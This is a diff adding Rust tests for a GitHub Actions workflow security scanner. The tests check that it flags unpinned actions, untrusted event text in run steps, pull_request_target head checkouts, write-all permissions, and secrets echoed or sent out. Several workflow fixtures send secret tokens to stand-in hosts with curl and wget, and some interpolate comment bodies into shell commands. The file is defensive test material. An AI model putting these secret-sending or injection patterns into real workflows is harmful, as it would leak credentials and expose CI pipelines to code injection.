@@ -1,0 +1,115 @@
+use super::*;
+
+fn ids(out: &Extracted) -> Vec<&str> {
+    out.notices.iter().map(|n| n.rule_id.as_str()).collect()
+}
+
+#[test]
+fn run_steps_with_shells_positions_and_templates() {
+    let src = "name: ci\non:\n  push:\n  pull_request:\ndefaults:\n  run:\n    shell: bash\njobs:\n  build:\n    runs-on: ubuntu-latest\n    steps:\n      - uses: actions/checkout@11bd71901bbe5b1630ceea73d27597364c9af683\n      - name: Install\n        run: |\n          npm ci\n          rm -rf ${{ runner.temp }}/cache\n      - run: print('hi')\n        shell: python\n  win:\n    runs-on: windows-latest\n    steps:\n      - run: Remove-Item -Recurse build\n";
+    let out = extract_workflow(src);
+    assert!(out.notices.is_empty(), "{:?}", out.notices);
+    assert_eq!(out.snippets.len(), 3);
+    let s = &out.snippets[0];
+    assert_eq!(s.context, "job build, step \"Install\"");
+    assert_eq!(s.text, "npm ci\nrm -rf ${TPL_RUNNER_TEMP}/cache\n");
+    assert_eq!(s.lines[..2], [(15, 11), (16, 11)]);
+    assert_eq!(s.lang, SnippetLang::Shell);
+    assert_eq!(s.name.as_deref(), Some("build"));
+    assert_eq!(out.snippets[1].lang, SnippetLang::Code(Language::Python));
+    assert_eq!(out.snippets[1].start(), (17, 14));
+    // the workflow's `defaults.run.shell: bash` holds on Windows runners too
+    assert_eq!(out.snippets[2].lang, SnippetLang::Shell);
+    let win = extract_workflow(
+        "on: push\njobs:\n  w:\n    runs-on: [self-hosted, windows]\n    steps:\n      - run: dir\n",
+    );
+    assert_eq!(win.snippets[0].lang, SnippetLang::PowerShell);
+}
+
+#[test]
+fn unpinned_actions_by_owner() {
+    let src = "on: push\njobs:\n  a:\n    uses: org/repo/.github/workflows/reuse.yml@main\n  b:\n    runs-on: ubuntu-latest\n    steps:\n      - uses: actions/setup-node@v4\n      - uses: docker://alpine:3\n      - uses: ./local\n";
+    let out = extract_workflow(src);
+    assert_eq!(
+        ids(&out),
+        vec![
+            "gha.action-unpinned",
+            "gha.action-unpinned-github",
+            "gha.action-unpinned"
+        ]
+    );
+    assert_eq!((out.notices[0].line, out.notices[0].column), (4, 11));
+    assert_eq!(out.notices[1].matched, "actions/setup-node@v4");
+}
+
+#[test]
+fn untrusted_event_text_in_scripts() {
+    let src = "on: [issue_comment]\njobs:\n  a:\n    runs-on: ubuntu-latest\n    steps:\n      - run: |\n          echo ok\n          echo \"${{ github.event.comment.body }}\"\n      - uses: actions/github-script@60a0d83039c74a4aee543508d2ffcb1c3799cdea\n        with:\n          script: console.log(\"${{ github.event.issue.title }}\")\n      - if: github.event.comment.body == 'x'\n        run: echo ${{ github.event.issue.number }} ${{ github.event.inputs.name }}\n";
+    let out = extract_workflow(src);
+    assert_eq!(ids(&out), vec!["gha.event-in-run", "gha.event-in-run"]);
+    assert_eq!((out.notices[0].line, out.notices[0].column), (8, 17));
+    assert!(
+        out.snippets
+            .iter()
+            .any(|s| s.lang == SnippetLang::Code(Language::Js))
+    );
+}
+
+#[test]
+fn pull_request_target_with_head_checkout_once_per_job() {
+    let src = "on:\n  pull_request_target:\njobs:\n  a:\n    runs-on: ubuntu-latest\n    steps:\n      - uses: actions/checkout@11bd71901bbe5b1630ceea73d27597364c9af683\n        with:\n          ref: ${{ github.event.pull_request.head.ref }}\n      - run: gh pr checkout 1\n";
+    let out = extract_workflow(src);
+    assert_eq!(ids(&out), vec!["gha.pr-target-checkout"]);
+    assert_eq!(out.notices[0].line, 9);
+}
+
+#[test]
+fn secrets_printed_or_sent() {
+    let src = "on: push\nenv:\n  TOKEN: ${{ secrets.T }}\njobs:\n  a:\n    runs-on: ubuntu-latest\n    steps:\n      - run: echo $TOKEN | base64\n      - run: echo \"$TOKEN\" | docker login -u me --password-stdin\n      - run: echo ${{ secrets.X }} >> $GITHUB_ENV\n      - run: curl -d @- https://x.example < /dev/null; echo $TOKEN | curl -T - https://up.example\n      - run: wget --post-data=\"k=${{ secrets.X }}\" https://x.example\n      - run: curl -u \"me:$TOKEN\" https://api.example.com\n";
+    let out = extract_workflow(src);
+    let lines: Vec<(&str, u32)> = out
+        .notices
+        .iter()
+        .map(|n| (n.rule_id.as_str(), n.line))
+        .collect();
+    assert_eq!(
+        lines,
+        vec![
+            ("gha.secret-echoed", 8),
+            ("gha.secret-sent", 11),
+            ("gha.secret-sent", 12)
+        ]
+    );
+}
+
+#[test]
+fn write_all_and_bad_yaml() {
+    let out = extract_workflow("on: push\npermissions: write-all\njobs: {}\n");
+    assert_eq!(ids(&out), vec!["gha.permissions-write-all"]);
+    let bad = extract_workflow("on: push\njobs:\n  a: [\n");
+    assert_eq!(ids(&bad), vec!["repo.not-analyzed"]);
+    assert!(bad.notices[0].line >= 3);
+}
+
+#[test]
+fn composite_actions() {
+    let src = "name: x\nruns:\n  using: composite\n  steps:\n    - run: ./install.sh\n      shell: bash\n    - uses: other/act@v1\n";
+    let out = extract_action(src);
+    assert_eq!(out.snippets.len(), 1);
+    assert_eq!(out.snippets[0].text, "./install.sh");
+    assert_eq!(ids(&out), vec!["gha.action-unpinned"]);
+}
+
+#[test]
+fn untrusted_expressions() {
+    assert!(checks::is_untrusted("github.event.pull_request.title"));
+    assert!(checks::is_untrusted("github.event.pull_request.head.ref"));
+    assert!(checks::is_untrusted("github.head_ref"));
+    assert!(checks::is_untrusted(
+        "format('{0}', github.event.commits[0].message)"
+    ));
+    assert!(!checks::is_untrusted("github.event.pull_request.head.sha"));
+    assert!(!checks::is_untrusted("github.event.inputs.version"));
+    assert!(!checks::is_untrusted("github.sha"));
+    assert!(!checks::is_untrusted("github.event.pull_request.number"));
+}
